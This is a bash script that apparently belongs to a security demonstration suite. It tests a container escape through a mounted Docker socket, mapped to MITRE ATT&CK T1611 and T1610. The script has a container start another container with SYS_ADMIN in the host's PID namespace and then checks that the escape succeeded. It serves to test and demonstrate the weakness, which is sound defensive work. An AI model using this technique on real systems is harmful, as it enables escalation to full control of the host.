#!/usr/bin/env bash
# Starts a container with the host's processes and SYS_ADMIN from within another, by the engine's socket mounted there. MITRE ATT&CK T1611, Escape to Host; T1610, Deploy Container.
. "$(dirname "$0")/lib.sh"

socket=$(socket_of_engine) || cannot "the engine is on another machine"
bring --volume "$socket:/var/run/docker.sock" || stopped "no container with the socket: $problem"
later "docker rm -fv castellan-demo-$mark"
out=$(docker exec "$brought" sh -c "$(fetch_tool /tmp/tool); /tmp/tool docker /var/run/docker.sock $debian $mark" 2>&1)
[ "$(docker inspect --format '{{.State.Running}} {{.HostConfig.PidMode}}' "castellan-demo-$mark" 2>/dev/null)" = "true host" ] ||
	stopped "no container was started: $out"
worked "a container without rights started container ${out:0:12} with SYS_ADMIN in the host's pid namespace"
